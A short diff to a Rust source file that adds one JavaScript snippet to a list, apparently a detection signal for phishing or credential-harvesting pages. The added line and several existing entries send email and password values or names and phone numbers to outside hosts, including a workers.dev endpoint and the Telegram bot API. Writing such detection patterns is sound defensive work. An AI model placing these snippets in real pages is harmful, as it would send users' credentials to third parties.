@@ -24,6 +24,7 @@ pub(super) const SIGNAL: Signal = Signal {
             "fetch('https://formspree.io/f/abc',{method:'POST',body:new FormData(form)})",
             "window.open('https://t.me/share/url?url='+encodeURIComponent(location.href))",
             "fetch('/api/login',{method:'POST',body:JSON.stringify({email:m.value,password:p.value})})",
+            "fetch('https://app.workers.dev/login',{method:'POST',body:JSON.stringify({email:m.value,password:p.value})})",
             "fetch('https://api.telegram.org/bot'+t+'/sendMessage',{method:'POST',body:JSON.stringify({chat_id:c,text:'Name: '+n.value+' Phone: '+p.value})})",
         ],
     },
